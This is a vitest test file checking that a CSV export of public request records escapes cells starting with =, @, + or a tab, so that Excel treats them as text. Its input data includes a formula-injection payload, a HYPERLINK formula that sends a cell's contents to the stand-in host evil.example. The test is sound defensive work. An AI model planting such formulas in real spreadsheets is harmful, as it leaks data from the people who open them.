import { describe, expect, it } from "vitest";
import { recordsToCsv, type ExportColumn } from "./export";

type Row = { request: string; applicant: string; days: number };
const columns: ExportColumn<Row>[] = [
  { header: "申请内容", value: (r) => r.request },
  { header: "申请人", value: (r) => r.applicant },
  { header: "用时（工作日）", value: (r) => r.days },
];

describe("record list CSV", () => {
  it("writes a request text from the public as text, never as a formula Excel would run", () => {
    const csv = recordsToCsv(columns, [
      { request: '=HYPERLINK("http://evil.example/?x="&A1,"click")', applicant: "@SUM(1,2)", days: -1 },
      { request: "+86 138 0000 0000", applicant: "\t=1+1", days: 3 },
    ])
      .toString("utf8")
      .replace(/^\uFEFF/, "");
    const [, first, second] = csv.split("\r\n");
    expect(first).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'@SUM(1,2)",-1`);
    expect(second).toBe("'+86 138 0000 0000,'\t=1+1,3");
  });
});
